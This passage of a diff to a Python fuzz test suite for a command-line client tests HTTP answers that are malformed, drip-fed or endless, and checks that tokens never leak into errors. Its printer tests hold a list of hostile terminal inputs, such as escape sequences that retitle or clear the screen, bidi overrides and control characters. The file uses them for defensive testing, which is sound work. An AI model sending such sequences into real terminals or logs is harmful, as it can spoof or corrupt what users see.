+            written = json.loads(raw.decode("utf-8").removeprefix("\ufeff"))
+            if written != result:
+                raise fail(f"read as {result!r:.200}, not as written")
 
     def test_credentials_file(self) -> None:
         import functools
@@ -3808,7 +5832,7 @@ class FuzzTest(unittest.TestCase):
         home = tempfile.mkdtemp(prefix="arkor fuzz \u00e9-")
         self.addCleanup(shutil.rmtree, home, True)
         path = os.path.join(home, "credentials.json")
-        for rounds, rng in self._rounds("credentials-file", 0.5):
+        for rounds, rng in self._rounds("credentials-file", 0.5, 40):
             text = self._credentials_text(rng)
             encoding = rng.choice(("utf-8", "utf-8", "utf-8", "utf-8-sig", "utf-16", "latin-1"))
             raw = text.encode(encoding, "replace" if encoding == "latin-1" else "surrogatepass")
@@ -4107,32 +6131,46 @@ class FuzzTest(unittest.TestCase):
         """_http returns a reply or raises ArkorError, whatever comes back."""
         import functools
 
-        env = {"PATH": os.environ.get("PATH", os.defpath)}  # no proxies from the real environment
         server = self._garbage_server()
         closed = self._closed_port()
-        with mock.patch.dict(os.environ, env, clear=True):
-            for rounds, rng in self._rounds("http-reply", 0.5):
-                token = f"fuzz-token-{rng.randrange(16**12):012x}"
-                server.requests, server.answers = [], []
-                server.answer = lambda rng=rng: self._garbage_answer(rng, server.port, closed)
+        for rounds, rng in self._rounds("http-reply", 0.5, 10):
+            token = f"fuzz-token-{rng.randrange(16**12):012x}"
+            server.requests, server.answers = [], []
+            server.answer = lambda rng=rng: self._garbage_answer(rng, server.port, closed)
 
-                fail = functools.partial(self._failure, "http-reply", rounds, server.answers)
+            fail = functools.partial(self._failure, "http-reply", rounds, server.answers)
 
-                url = f"http://127.0.0.1:{server.port}/v1/me"
-                headers = {"Accept": "application/json", "Authorization": f"Bearer {token}"}
-                try:
-                    reply = arkor_cli._http("GET", url, headers=headers, body=None, timeout=2)
-                except arkor_cli.ArkorError as exc:
-                    if token in exc.message:
-                        raise fail("the token is in the error message") from None
-                except Exception as exc:  # noqa: BLE001 - any other exception is the finding
-                    raise fail(f"_http raised {type(exc).__name__}", exc) from None
-                else:
-                    if not isinstance(reply.status, int) or not isinstance(reply.body, bytes):
-                        raise fail(f"a reply with status {reply.status!r} and body {type(reply.body).__name__}")
-                    if len(reply.body) > 1024 * 1024:
-                        raise fail(f"a reply of {len(reply.body)} bytes, over the 1 MiB cap")
-                self._check_redirected_auth(server, token, fail)
+            url = f"http://127.0.0.1:{server.port}/v1/me"
+            headers = {"Accept": "application/json", "Authorization": f"Bearer {token}"}
+            try:
+                reply = arkor_cli._http("GET", url, headers=headers, body=None, seconds=2, env={})
+            except arkor_cli.ArkorError as exc:
+                self._check_error(exc, url, token, fail)
+            except Exception as exc:  # noqa: BLE001 - any other exception is the finding
+                raise fail(f"_http raised {type(exc).__name__}", exc) from None
+            else:
+                self._check_reply(reply, url, fail)
+            self._check_redirected_auth(server, token, fail)
+
+    def _check_error(self, exc: Any, url: str, token: str, fail: Callable[[str], AssertionError]) -> None:
+        """An ArkorError from _http: one line, about the URL asked, no token."""
+        if len(exc.lines) != 1 or any(c in exc.message for c in "\r\n"):
+            raise fail(f"an error of more than one line: {exc.lines!r:.500}")
+        if token in exc.message or "Traceback" in exc.message:
+            raise fail(f"the error holds the token or a traceback: {exc.message!r:.500}")
+        starts = (f"Could not reach {url}: ", f"Unexpected answer from GET {url}", f"The answer from GET {url} (")
+        if not exc.message.startswith(starts):
+            raise fail(f"an error that does not name the URL asked: {exc.message!r:.300}")
+
+    def _check_reply(self, reply: Any, url: str, fail: Callable[[str], AssertionError]) -> None:
+        if not isinstance(reply, arkor_cli._Reply):
+            raise fail(f"_http returned {type(reply).__name__}, not a _Reply")
+        if isinstance(reply.status, bool) or not isinstance(reply.status, int) or not 100 <= reply.status <= 999:
+            raise fail(f"a reply with status {reply.status!r}")
+        if not isinstance(reply.body, bytes) or len(reply.body) > 1024 * 1024:
+            raise fail(f"a reply body of {type(reply.body).__name__}, {len(reply.body)} long, over the 1 MiB cap")
+        if (reply.method, reply.url) != ("GET", url):
+            raise fail(f"a reply for {reply.method} {reply.url}, not for GET {url}")
 
     def test_whoami_garbage(self) -> None:
         """``arkor whoami`` against a server that answers garbage: one line of
@@ -4148,7 +6186,7 @@ class FuzzTest(unittest.TestCase):
         server = self._garbage_server()
         closed = self._closed_port()
         base = f"http://127.0.0.1:{server.port}"
-        for rounds, rng in self._rounds("whoami", 0.5):
+        for rounds, rng in self._rounds("whoami", 0.5, 8):
             token = f"fuzz-token-{rng.randrange(16**12):012x}"
             from_env = rng.random() < 0.5
             with open(path, "w", encoding="utf-8") as f:
@@ -4164,7 +6202,7 @@ class FuzzTest(unittest.TestCase):
                 "HOME": home,
                 "USERPROFILE": home,
                 "PATH": os.environ.get("PATH", os.defpath),
-                "ARKOR_HTTP_TIMEOUT": "2",
+                "ARKOR_HTTP_TIMEOUT": "2",  # a bound only
             }
             if from_env:
                 env["ARKOR_CLOUD_API_URL"] = base
@@ -4195,23 +6233,541 @@ class FuzzTest(unittest.TestCase):
                 raise fail("the token reached the terminal")
             self._check_redirected_auth(server, token, fail)
 
+    # -- target 4: HTTP framing, delivered slowly or endlessly ------------------
+
+    # The bound each _http call gets: what ends an endless answer.
+    _FRAMING_SECONDS = 0.3
+
+    def _chunked(self, rng: Any, body: bytes) -> bytes:
+        """``body`` in valid chunked framing (RFC 9112 §7.1): random chunk
+        sizes in either case of hex and with leading zeros, extensions, and
+        trailer fields."""
+        out = []
+        start = 0
+        while start < len(body):
+            size = rng.randint(1, min(len(body) - start, rng.choice((1, 7, 64, 4096))))
+            digits = f"{size:x}" if rng.random() < 0.5 else f"{size:X}"
+            out.append(
+                ("0" * rng.choice((0, 0, 1, 3)) + digits + self._chunk_extension(rng)).encode()
+                + b"\r\n"
+                + body[start : start + size]
+                + b"\r\n"
+            )
+            start += size
+        out.append(rng.choice((b"0", b"0", b"000")) + self._chunk_extension(rng).encode() + b"\r\n")
+        for _ in range(rng.choice((0, 0, 1, rng.randint(0, 5)))):
+            out.append(rng.choice((b"X-Trailer: 1\r\n", b"Server-Timing: db;dur=53\r\n", b"X-Empty:\r\n")))
+        out.append(b"\r\n")
+        return b"".join(out)
+
+    @staticmethod
+    def _chunk_extension(rng: Any) -> str:
+        return str(rng.choice(("", "", "", ";x", ";name=value", ';q="a;b"', " ;x", ";" + "e" * rng.randint(1, 300))))
+
+    def _framing_plan(self, rng: Any) -> dict[str, Any]:
+        """One answer to deliver: its bytes (cut into pieces, with pauses),
+        then an endless tail or none, and how the connection ends. ``expect``
+        is the (status, body) a valid, whole answer must give; ``endless``
+        marks an answer that only the deadline can end."""
+        body = rng.choice(
+            (
+                b"",
+                b"{}",
+                json.dumps({"user": {"id": self._text(rng, 8)}}).encode(),
+                rng.randbytes(rng.randint(0, 3000)),
+                b'{"orgs": []}' * rng.randint(1, 2000),
+            )
+        )
+        status = int(rng.choice((200, 200, 201, 400, 401, 404, 426, 500, 503)))
+        head = [
+            f"{rng.choice(('HTTP/1.1', 'HTTP/1.1', 'HTTP/1.0'))} {status} {rng.choice(('OK', '', 'Whatever', 'x y z'))}"
+        ]
+        valid = True
+        interim = b""
+        for _ in range(rng.choice((0, 0, 0, 1, 2, rng.randint(0, 30)))):
+            code = rng.choice((100, 100, 100, 100, 102, 103))
+            valid = valid and code == 100  # http.client takes any other 1xx as the answer
+            extra = rng.choice((b"", b"X-Interim: 1\r\n", b"Link: </a.css>; rel=preload\r\n"))
+            interim += b"HTTP/1.1 %d Continue\r\n" % code + extra + b"\r\n"
+        for _ in range(rng.choice((0, 1, rng.randint(0, 6)))):
+            head.append(
+                rng.choice(("Content-Type: application/json", "X-Junk: \u00e9t\u00e9", "Cache-Control: no-store"))
+            )
+        framing = rng.choice(
+            ("length", "length", "chunked", "chunked", "chunked", "close", "short", "long", "bad-chunk")
+        )
+        expected = body
+        if framing == "length":
+            head.append(f"Content-Length: {len(body)}")
+            payload = body
+        elif framing == "short":  # valid: the length says where the body ends
+            cut = rng.randint(0, len(body))
+            head.append(f"Content-Length: {cut}")
+            payload, expected = body, body[:cut]
+        elif framing == "long":  # more promised than sent, then the close
+            valid = False
+            head.append(f"Content-Length: {len(body) + rng.randint(1, 10**6)}")
+            payload = body
+        elif framing == "close":  # no length: the body ends at the close
+            head.append("Connection: close")
+            payload = body
+        else:
+            head.append("Transfer-Encoding: chunked")
+            payload = self._chunked(rng, body)
+            if framing == "bad-chunk":
+                valid = False
+                payload = self._broken_chunking(rng, payload, body)
+            elif rng.random() < 0.1:  # a Content-Length beside chunked: may be refused, or ignored
+                valid = False
+                head.append(f"Content-Length: {rng.randint(0, 2 * len(payload) + 1)}")
+        data = interim + "".join(h + "\r\n" for h in head).encode("utf-8") + b"\r\n" + payload
+        if rng.random() < 0.08:  # the status line itself goes wrong
+            valid = False
+            data = (
+                rng.choice(
+                    (
+                        b"HTTP/2 200 OK\r\n",
+                        b"HTTP/1.1 abc OK\r\n",
+                        b"ICY 200 OK\r\n",
+                        b"HTTP/1.1 99 X\r\n",
+                        b"\r\n",
+                        b"",
+                    )
+                )
+                + data.partition(b"\r\n")[2]
+            )
+        end = "fin"
+        if rng.random() < 0.1:  # an early close, or a reset
+            valid = False
+            data = data[: rng.randrange(len(data) + 1)]
+            end = rng.choice(("fin", "rst"))
+        tail = None
+        if rng.random() < 0.25:
+            valid = False
+            data, tail = self._endless(rng)
+        pieces: list[bytes] = []
+        at = 0
+        while at < len(data):
+            step = rng.randint(1, rng.choice((1, 5, 64, 1500, len(data))))
+            pieces.append(data[at : at + step])
+            at += step
+        pause = rng.choice((0.0, 0.0, 0.0005, 0.002))
+        if len(pieces) * pause > 0.05:  # a whole answer arrives well within the bound
+            pause = 0.0
+        return {
+            "pieces": pieces,
+            "pause": pause,
+            "tail": tail,
+            "end": end,
+            "expect": (status, expected) if valid else None,
+            "endless": tail is not None,
+        }
+
+    @staticmethod
+    def _broken_chunking(rng: Any, payload: bytes, body: bytes) -> bytes:
+        """Chunked framing gone wrong one way or another."""
+        first_line = payload.partition(b"\r\n")[0]
+        rest = payload[len(first_line) :]
+        return bytes(
+            rng.choice(
+                (
+                    b"zz" + rest,
+                    b"-1" + rest,
+                    b"" + rest,
+                    b"f" * 20 + rest,
+                    b"1" * rng.randint(70000, 80000) + rest,  # longer than http.client's line limit
+                    payload[: -len(b"0\r\n\r\n")] if payload.endswith(b"0\r\n\r\n") else payload[:-2],  # no last chunk
+                    payload[:-2],  # no blank line after the trailers
+                    b"%x\r\n" % (len(body) + 50) + body,  # a chunk longer than what comes
+                    payload.replace(b"\r\n", b"\n"),
+                    payload.replace(b"\r\n", b"\r"),
+                    payload[:-2] + b"X-T: " + b"t" * 70000 + b"\r\n\r\n",
+                )
+            )
+        )
+
+    @staticmethod
+    def _endless(rng: Any) -> tuple[bytes, tuple[bytes, float]]:
+        """An answer that never ends: a start, and a unit repeated every interval."""
+        chunked = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
+        start, unit = rng.choice(
+            (
+                (b"HTTP/1.1 200 ", rng.choice((b"O", b"K", b" "))),  # the status line
+                (b"HTTP/1.0 200 OK\r\nX-Drip: ", b"a"),  # a header line
+                (b"HTTP/1.1 200 OK\r\n", b"X-Many: 1\r\n"),  # header lines (see below)
+                (b"", b"HTTP/1.1 100 Continue\r\n\r\n"),  # interim answers, no final one
+                (chunked, b"0"),  # a chunk-size line
+                (chunked, b"1;x\r\na\r\n"),  # chunks of one byte
+                (chunked + b"2\r\n{}\r\n0\r\n", b"X-T: a\r\n"),  # trailer lines
+                (b"HTTP/1.1 200 OK\r\nContent-Length: 1000000\r\n\r\n", b" "),  # the body
+                (b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\n", b""),  # nothing more, and no close
+                (b"", b""),  # no answer at all
+            )
+        )
+        interval = rng.choice((0.001, 0.005, 0.02, 0.05))
+        if unit.startswith(b"X-Many"):
+            # http.client refuses a 101st header line: sent no faster than 100 in
+            # 0.5 s, they cannot reach it within the 0.3 s bound.
+            interval = max(interval, 0.005)
+        return start, (unit, interval)
+
+    @staticmethod
+    def _framing_behaviour(plan: dict[str, Any]) -> Callable[[socket.socket, Any], None]:
+        """What fake_cloud.RawServer does with each connection for ``plan``."""
+
+        def behaviour(conn: socket.socket, stop: Any) -> None:
+            try:
+                for piece in plan["pieces"]:
+                    conn.sendall(piece)
+                    if plan["pause"] and stop.wait(plan["pause"]):
+                        return
+                if plan["tail"] is not None:
+                    unit, interval = plan["tail"]
+                    while not stop.wait(interval):
+                        if unit:
+                            conn.sendall(unit)
+                    return
+                if plan["end"] == "rst":
+                    reset_on_close(conn)
+            except OSError:
+                pass  # the client gave up: the deadline did its work
+
+        return behaviour
+
+    def test_http_framing(self) -> None:
+        """_http against answers delivered in pieces, slowly, or without end:
+        a reply or one ArkorError line within its bound, nothing else. A
+        valid whole answer gives its status and body (or, on a machine too
+        slow for the bound, a timeout); an endless one gives the timeout."""
+        import functools
+        import threading
+
+        from fake_cloud import RawServer
+
+        server = RawServer().start()
+        self.addCleanup(server.stop)
+        url = f"{server.url}/v1/me"
+        timed_out = f"Could not reach {url}: timed out"
+        for rounds, rng in self._rounds("http-framing", 1.0, 6):
+            plan = self._framing_plan(rng)
+            server.behaviour = self._framing_behaviour(plan)
+            token = f"fuzz-token-{rng.randrange(16**12):012x}"
+            headers = {"Accept": "application/json", "Authorization": f"Bearer {token}"}
+
+            fail = functools.partial(self._failure, "http-framing", rounds, plan)
+
+            outcome: list[object] = []
+
+            def call(headers: dict[str, str] = headers, outcome: list[object] = outcome) -> None:
+                try:
+                    outcome.append(
+                        arkor_cli._http("GET", url, headers=headers, body=None, seconds=self._FRAMING_SECONDS, env={})
+                    )
+                except BaseException as exc:  # noqa: BLE001 - reported below
+                    outcome.append(exc)
+
+            worker = threading.Thread(target=call, name="fuzz-http-framing", daemon=True)
+            worker.start()
+            worker.join(self._FRAMING_SECONDS + 15)  # a guard: only a hang reaches it
+            if worker.is_alive():
+                raise fail(f"_http still runs 15 s after its {self._FRAMING_SECONDS} s bound")
+            (result,) = outcome
+            if isinstance(result, arkor_cli.ArkorError):
+                self._check_error(result, url, token, fail)
+                if plan["endless"] and result.message != timed_out:
+                    raise fail(f"an endless answer ended otherwise than in the timeout: {result.message!r:.300}")
+                if plan["expect"] is not None and result.message != timed_out:
+                    raise fail(f"a valid answer was refused: {result.message!r:.300}")
+            elif isinstance(result, BaseException):
+                raise fail(f"_http raised {type(result).__name__}", result)
+            else:
+                self._check_reply(result, url, fail)
+                if plan["endless"]:
+                    raise fail(f"an endless answer gave a reply: {result.status} {result.body[:100]!r}")
+                if plan["expect"] is not None and (result.status, result.body) != plan["expect"]:
+                    raise fail(f"read as {result.status} {result.body[:100]!r}, not as sent")
+
+    # -- target 5: the printer -----------------------------------------------------
+
+    # Nothing of these Unicode categories may reach a terminal: controls
+    # (escape sequences, line breaks), format characters (bidi overrides,
+    # zero widths), surrogates, and the line and paragraph separators.
+    _UNPRINTABLE = ("Cc", "Cf", "Cs", "Zl", "Zp")
+    _HOSTILE = (
+        "\x1b[31m",
+        "\x1b]0;pwned\x07",
+        "\x1b[2J",
+        "\x9b2J",
+        "\r",
+        "\n",
+        "\r\n",
+        "\x0b",
+        "\x0c",
+        "\x1c",
+        "\x85",
+        "\u2028",
+        "\u2029",
+        "\u202e",
+        "\u2066",
+        "\u200b",
+        "\u200d",
+        "\u00ad",
+        "\u061c",
+        "\ufeff",
+        "\U000e0041",
+        "\x00",
+        "\x7f",
+        "\t",
+        "\udcff",
+        "\ud800",
+        "\U0001f600",
+        "\u00e9",
+        "e\u0301",
+        "\\u000a",
+    )
+
+    def _hostile_text(self, rng: Any) -> str:
+        """Text as a hostile server, file or callback would send it."""
+        parts = [self._text(rng, 8) if rng.random() < 0.5 else ""]
+        for _ in range(rng.choice((0, 1, 2, rng.randint(0, 12)))):
+            parts.append(rng.choice(self._HOSTILE) if rng.random() < 0.6 else self._text(rng, 4))
+        return "".join(parts)
+
+    def _check_line(self, line: str, given: str | None, fail: Callable[[str], AssertionError]) -> None:
+        """One printed line (without its newline): nothing unprintable in it,
+        and text that was printable already is printed as it is."""
+        import unicodedata
+
+        bad = sorted({f"U+{ord(c):04X}" for c in line if unicodedata.category(c) in self._UNPRINTABLE})
+        if bad:
+            raise fail(f"printed {', '.join(bad)} in {line!r:.300}")
+        if given is not None and given.isprintable() and line != given:
+            raise fail(f"printable text {given!r:.200} was printed as {line!r:.200}")
+
+    def _check_printed(
+        self,
+        out: str,
+        given: list[str],
+        colour: str | None,
+        fail: Callable[[str], AssertionError],
+    ) -> None:
+        """What one call wrote: exactly one line, newline-terminated, per line
+        given, wrapped in ``colour`` (an SGR code) when colour is on."""
+        if out.count("\n") != len(given) or (given and not out.endswith("\n")):
+            raise fail(f"{len(given)} line(s) given, printed as {out!r:.500}")
+        for line, text in zip(out.split("\n"), given):
+            if colour is not None:
+                start, end = f"\x1b[{colour}m", "\x1b[0m"
+                if not (line.startswith(start) and line.endswith(end)):
+                    raise fail(f"a line not wrapped in colour {colour}: {line!r:.300}")
+                line = line[len(start) : -len(end)]
+            self._check_line(line, text, fail)
+
+    class _Stream(io.StringIO):
+        """A StringIO that may pass for a terminal, or fail every write (a full disk)."""
+
+        def __init__(self, tty: bool = False, broken: bool = False) -> None:
+            super().__init__()
+            self.tty, self.broken = tty, broken
+
+        def isatty(self) -> bool:
+            return self.tty
+
+        def write(self, text: str) -> int:
+            if self.broken:
+                raise OSError(28, "No space left on device")
+            return super().write(text)
+
+    def _terminal_round(self, rng: Any, seen: list[object], fail: Callable[[str], AssertionError]) -> None:
+        """A few _Terminal calls with hostile text, each checked."""
+        env = dict(rng.choice(({}, {"NO_COLOR": "1"}, {"TERM": "xterm-256color"}, {"TERM": "dumb", "NO_COLOR": ""})))
+        out, err = self._Stream(tty=rng.random() < 0.5), self._Stream(tty=rng.random() < 0.5)
+        broken = rng.choice((out, err)) if rng.random() < 0.1 else None
+        if broken is not None:
+            broken.broken = True
+        typed = [self._hostile_text(rng).replace("\n", "") for _ in range(rng.randint(0, 3))]
+        term = arkor_cli._Terminal(io.StringIO("".join(t + "\n" for t in typed)), out, err, env)
+        colour_on = "NO_COLOR" not in env and (os.name != "nt" or "TERM" in env)
+        seen.append({"env": env, "tty": (out.tty, err.tty), "broken": broken is out and "out" or broken and "err"})
+        lost = False  # whether a write went to the broken stream
+        for _ in range(rng.randint(1, 4)):
+            method = rng.choice(("info", "success", "note", "warn", "error", "ask"))
+            count = rng.choice((0, 1, 1, 2, 3)) if method in ("info", "error") else 1
+            lines = [self._hostile_text(rng) for _ in range(count)]
+            seen.append((method, lines))
+            streams = {"info": out, "success": out, "note": err, "warn": err, "error": err}
+            stream = streams.get(method) or (out if out.tty else err)
+            other = err if stream is out else out
+            before, before_other = stream.getvalue(), other.getvalue()
+            try:
+                got = getattr(term, method)(*lines)
+            except Exception as exc:  # noqa: BLE001 - any exception is the finding
+                raise fail(f"_Terminal.{method} raised {type(exc).__name__}", exc) from None
+            if other.getvalue() != before_other:
+                raise fail(f"_Terminal.{method} wrote to the other stream")
+            if stream is broken:
+                lost = lost or bool(lines)
+                continue
+            written = stream.getvalue()[len(before) :]
+            if method == "ask":  # the prompt, and a line break only when the input ended there
+                answer = typed.pop(0).strip() if typed else None
+                if got != answer:
+                    raise fail(f"ask() read {got!r:.100}, not the line typed ({answer!r:.100})")
+                if written.count("\n") != (answer is None) or (answer is None and not written.endswith("\n")):
+                    raise fail(f"a prompt printed as {written!r:.300}")
+                self._check_line(written.rstrip("\n"), lines[0], fail)
+                continue
+            colour = {"success": "32", "warn": "33", "error": "31"}.get(method)
+            self._check_printed(written, lines, colour if colour and colour_on and stream.tty else None, fail)
+        if lost and not term.lost_output:
+            raise fail("a write failed, and the terminal did not note the lost output")
+
+    def _run_main(self, argv: list[str], env: dict[str, str]) -> tuple[int, str, str]:
+        """main() in process, with its own environment and streams."""
+        import contextlib
+
+        out, err = io.StringIO(), io.StringIO()
+        with contextlib.ExitStack() as stack:
+            stack.enter_context(mock.patch.dict(os.environ, env, clear=True))
+            stack.enter_context(mock.patch.object(sys, "stdin", io.StringIO("")))
+            stack.enter_context(contextlib.redirect_stdout(out))
+            stack.enter_context(contextlib.redirect_stderr(err))
+            status = arkor_cli.main(argv)
+        return status, out.getvalue(), err.getvalue()
+
+    def _sources_round(
+        self, rng: Any, cloud: Any, home: str, seen: list[object], fail: Callable[[str], AssertionError]
+    ) -> None:
+        """A whole command printing hostile text from one source: the
+        cloud-api's /v1/me and its Warning header, the credentials file, an
+        error body, or the callback's parameters."""
+        path = os.path.join(home, ".arkor", "credentials.json")
+        env = {"HOME": home, "USERPROFILE": home, "PATH": os.environ.get("PATH", os.defpath)}
+        env.update(ARKOR_CLOUD_API_URL=cloud.url, ARKOR_HTTP_TIMEOUT="5")
+        if "SYSTEMROOT" in os.environ:
+            env["SYSTEMROOT"] = os.environ["SYSTEMROOT"]
+        if os.path.exists(path):
+            os.remove(path)
+        source = rng.choice(("me", "me", "file", "body", "callback"))
+        if source == "callback":
+            expected = self._state(rng)
+            callback = arkor_cli._Callback(expected)
+            params = {"error": [self._hostile_text(rng) or "x"], "error_description": [self._hostile_text(rng)]}
+            if rng.random() < 0.3:
+                params = {"code": [self._hostile_text(rng) or "c"], "state": [self._hostile_text(rng) or "s"]}
+            seen.append(params)
+            callback.decide(params)
+            err = self._Stream()
+            arkor_cli._Terminal(io.StringIO(), self._Stream(), err, {}).error("Login failed", str(callback.failure))
+            self._check_printed(err.getvalue(), ["Login failed", str(callback.failure)], None, fail)
+            return
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        anon = {"mode": "anon", "token": "fuzz-token-printer", "anonymousId": "a", "orgSlug": "o"}
+        if source == "file":
+            anon["anonymousId"] = self._hostile_text(rng) or "\x1b"
+            seen.append(anon)
+            with open(path, "w", encoding="utf-8") as f:
+                json.dump(anon, f)
+            code, out, err = self._run_main(["logout", "--yes"], env)
+            if (code, out) != (0, f"Removed {path}.\n"):
+                raise fail(f"logout said {code}, {out!r:.300}")
+            line = f"The anonymous identity {anon['anonymousId']} cannot be restored once deleted."
+            self._check_printed(err, [line], None, fail)
+            return
+        with open(path, "w", encoding="utf-8") as f:
+            json.dump(anon, f)
+        if source == "body":
+            body = self._hostile_text(rng).encode("utf-8", "surrogatepass")
+            if rng.random() < 0.3:
+                body = b"<html><title>" + body + b"</title>" + body
+            seen.append(body)
+            cloud.script("GET", "/v1/me", Answer(rng.choice((500, 200)), body=body))
+            code, out, err = self._run_main(["whoami"], env)
+            if code == 0:  # a 500: the documented line, and the hint
+                self._check_printed(out, ["Failed to fetch /v1/me (500). Token may be expired."], None, fail)
+                self._check_printed(err, [err.rstrip("\n")], None, fail)
+            else:
+                if out:
+                    raise fail(f"a refused answer printed {out!r:.300} on stdout")
+                self._check_printed(err, [err.rstrip("\n")], None, fail)  # one line
+            return
+        user = {self._hostile_text(rng): self._hostile_text(rng) for _ in range(rng.randint(0, 4))}
+        user["id"] = self._hostile_text(rng)
+        if rng.random() < 0.5:
+            user["nested"] = [self._hostile_text(rng), {"k": self._hostile_text(rng)}]
+        orgs = [{"slug": self._hostile_text(rng), "id": "org"} for _ in range(rng.choice((0, 1, 3)))]
+        warning = self._hostile_text(rng).encode("utf-8", "surrogatepass").decode("latin-1")
+        warning = warning.replace("\r", "").replace("\n", "")[:2000]  # within http.client's line limit
+        headers = {"Deprecation": "true", "Warning": f'299 - "{warning}"' if rng.random() < 0.5 else warning}
+        seen.append({"user": user, "orgs": orgs, "headers": headers})
+        cloud.script("GET", "/v1/me", Answer(200, {"user": user, "orgs": orgs}, headers=headers))
+        code, out, err = self._run_main(["whoami"], env)
+        if code != 0:
+            raise fail(f"whoami failed: {err!r:.300}")
+        lines = out.split("\n")
+        if lines.pop() != "":
+            raise fail(f"stdout does not end with a newline: {out!r:.300}")
+        if orgs:
+            names = ", ".join(str(o["slug"] or o["id"]) for o in orgs)
+            self._check_line(lines.pop(), f"Orgs: {names}", fail)
+        for line in lines:
+            self._check_line(line, None, fail)
+        try:
+            shown = json.loads("\n".join(lines))
+        except ValueError as exc:
+            raise fail(f"the user printed is no longer JSON ({exc}): {out!r:.500}") from None
+        sent = json.loads(json.dumps(user))  # as JSON carries it: a lone surrogate pair becomes one character
+        if shown != sent:
+            raise fail(f"the user printed reads back as {shown!r:.300}, not {sent!r:.300}")
+        self._check_printed(err, [err.rstrip("\n")], None, fail)  # the deprecation notice: one line
+
+    def test_printer(self) -> None:
+        """Every line printed is one line of printable text, whatever it carries."""
+        import functools
+
+        from fake_cloud import FakeCloudApi
+
+        cloud = FakeCloudApi().start()
+        self.addCleanup(cloud.stop)
+        home = tempfile.mkdtemp(prefix="arkor-fuzz-printer-")
+        self.addCleanup(shutil.rmtree, home, True)
+        for rounds, rng in self._rounds("printer", 1.0, 60):
+            seen: list[object] = []
+
+            fail = functools.partial(self._failure, "printer", rounds, seen)
+
+            if rounds % 4 == 3:
+                self._sources_round(rng, cloud, home, seen, fail)
+            else:
+                self._terminal_round(rng, seen, fail)
+
 
 class FuzzRegressionTest(OAuthCase):
     """Each crash the fuzz driver found, kept as a test of its own."""
 
     def test_deeply_nested_json(self) -> None:
         self.write_creds(b"[" * 1000)
-        code, _, err = self.run_main("whoami")
-        self.assertEqual(code, 1)
+        code, out, err = self.run_main("whoami")
         # (Python 3.11 overflows the stack on it; 3.12 reads it as truncated.)
-        self.assertTrue(err.startswith(f"{self.creds} does not hold valid arkor credentials (not JSON: "), err)
+        self.assertEqual((code, out), (1, ""))
+        self.assertRegex(
+            err,
+            rf"^{re.escape(self.creds)} does not hold valid arkor credentials \(not JSON: "
+            r"(nested too deeply|Expecting value \(line 1, column 1001\))\)\."
+            r" Fix it, or sign in again with `arkor login`\.\n$",
+        )
         code, out, _ = self.run_main("logout", "--yes")  # a broken file can still be removed
         self.assertEqual((code, out), (0, f"Removed {self.creds}.\n"))
         self.sign_in_anon()
         self.cloud.script("GET", "/v1/me", Answer(200, body=b"[" * 1000))
-        code, _, err = self.run_main("whoami")
-        self.assertEqual(code, 1)
-        self.assertTrue(err.startswith("Unexpected answer from GET /v1/me (200): not JSON: [[[["), err)
+        code, out, err = self.run_main("whoami")
+        self.assertEqual((code, out), (1, ""))
+        # The body quoted is one line of at most 200 characters.
+        self.assertRegex(
+            err,
+            rf"^Unexpected answer from GET {re.escape(self.cloud.url)}/v1/me \(200\): not JSON "
+            r"\((nested too deeply|Expecting value \(line 1, column 1001\))\): \[{199}\u2026\.\n$",
+        )
 
     def test_token_with_control_characters_never_reaches_output(self) -> None:
         # http.client refuses such a header with an error quoting it whole.
@@ -4230,20 +6786,36 @@ class FuzzRegressionTest(OAuthCase):
                 self.assertEqual((code, out), (1, ""))
                 self.assertEqual(
                     err,
-                    f"{self.creds} does not hold valid arkor credentials (token is not a token)."
+                    f"{self.creds} does not hold valid arkor credentials (token is not valid)."
                     " Fix it, or sign in again with `arkor login`.\n",
                 )
                 self.assertNotIn("secret", err)
         self.assertEqual(self.cloud.requests, [])
 
     def test_nan_and_infinite_expiry(self) -> None:
-        for raw in ('"expiresAt": NaN', '"expiresAt": Infinity', '"expiresAt": 1e999', '"expiresAt": ' + "9" * 400):
-            with self.subTest(raw=raw):
-                text = json.dumps(self.auth0_creds()).replace(f'"expiresAt": {self.auth0_creds()["expiresAt"]}', raw)
+        for raw, what in (
+            ("NaN", "not JSON: NaN is not JSON"),
+            ("Infinity", "not JSON: Infinity is not JSON"),
+            ("1e999", "not JSON: the number 1e999 is out of range"),
+            ("9" * 400, "expiresAt is not valid"),
+        ):
+            with self.subTest(raw=raw[:10]):
+                creds = self.auth0_creds()  # one clock read: the text replaced is the one written
+                text = json.dumps(creds).replace(f'"expiresAt": {creds["expiresAt"]}', f'"expiresAt": {raw}')
+                self.assertIn(raw, text)
                 self.write_creds(text.encode())
-                code, _, err = self.run_main("whoami")
-                self.assertEqual(code, 1)
-                self.assertIn("does not hold valid arkor credentials", err)
+                code, out, err = self.run_main("whoami")
+                self.assertEqual(
+                    (code, out, err),
+                    (
+                        1,
+                        "",
+                        (
+                            f"{self.creds} does not hold valid arkor credentials ({what})."
+                            " Fix it, or sign in again with `arkor login`.\n"
+                        ),
+                    ),
+                )
 
     def test_odd_content_lengths(self) -> None:
         self.sign_in_anon()
@@ -4252,11 +6824,17 @@ class FuzzRegressionTest(OAuthCase):
         self.cloud.script("GET", "/v1/me", Answer(200, body=body, headers={"Content-Length": "\u00b2"}))
         code, out, err = self.run_main("whoami")
         self.assertEqual((code, out, err), (0, '{\n  "id": "u1"\n}\n', ""))
-        # More digits than int() takes: one clear line, not a crash.
+        # More digits than int() takes: a length never reached, one clear line, not a crash.
         self.cloud.script("GET", "/v1/me", Answer(200, body=body, headers={"Content-Length": "9" * 5000}))
         code, out, err = self.run_main("whoami")
-        self.assertEqual((code, out), (1, ""))
-        self.assertRegex(err, rf"^Unexpected answer from GET {self.cloud.url}/v1/me: [^\n]+\n$")
+        self.assertEqual(
+            (code, out, err),
+            (
+                1,
+                "",
+                f"Could not reach {self.cloud.url}/v1/me: the connection closed before the whole answer arrived\n",
+            ),
+        )
 
     def test_redirects_urllib_cannot_follow(self) -> None:
         self.sign_in_anon()
@@ -4283,10 +6861,9 @@ class FuzzRegressionTest(OAuthCase):
             Answer(302, body=b"x" * 1000, headers={"Location": "/v1/me"}, content_length=10**15, hold=30),
             Answer(200, {"user": {"id": "u1"}, "orgs": []}),
         )
-        started = time.monotonic()
-        code, out, _ = self.run_main("whoami", ARKOR_HTTP_TIMEOUT="5")
-        self.assertEqual((code, out), (0, '{\n  "id": "u1"\n}\n'))
